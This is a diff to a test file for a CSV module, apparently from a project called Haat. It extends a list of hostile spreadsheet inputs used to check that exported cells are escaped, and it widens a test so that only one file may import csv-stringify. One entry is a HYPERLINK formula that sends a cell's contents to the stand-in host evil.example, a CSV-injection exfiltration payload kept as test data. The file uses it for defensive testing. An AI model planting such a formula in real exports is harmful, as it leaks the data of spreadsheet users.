@@ -5,7 +5,15 @@ import { describe, expect, it } from 'vitest';
 import { numberColumn, readCsv, textColumn, withoutSpreadsheetEscape, writeCsv } from './csv.ts';
 import { AppError } from './errors.ts';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&C3,"Verify")', '@SUM(1)', '+1', '-1', '\tTab', '\rReturn'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&C3,"Verify")',
+  '@SUM(1)',
+  '+1',
+  '-1',
+  '\tTab',
+  '\rReturn',
+  "'+1",
+];
 
 /** Every record of `text` as readCsv gives them. */
 async function records(text: string): Promise<{ cells: string[]; row: number }[]> {
@@ -98,10 +106,10 @@ describe('readCsv', () => {
 
 describe('every CSV Haat writes goes through lib/csv.ts', () => {
   it('leaves csv-stringify to this file alone', () => {
-    const server = path.join(import.meta.dirname, '..');
-    const writers = readdirSync(server, { recursive: true, encoding: 'utf8' })
-      .filter((file) => file.endsWith('.ts') && !file.includes('node_modules'))
-      .filter((file) => /from ['"]csv-stringify/.test(readFileSync(path.join(server, file), 'utf8')));
-    expect(writers).toEqual([path.join('lib', 'csv.ts')]);
+    const sources = path.join(import.meta.dirname, '..', '..');
+    const writers = readdirSync(sources, { recursive: true, encoding: 'utf8' })
+      .filter((file) => /\.tsx?$/.test(file))
+      .filter((file) => /from ['"]csv-stringify/.test(readFileSync(path.join(sources, file), 'utf8')));
+    expect(writers).toEqual([path.join('server', 'lib', 'csv.ts')]);
   });
 });
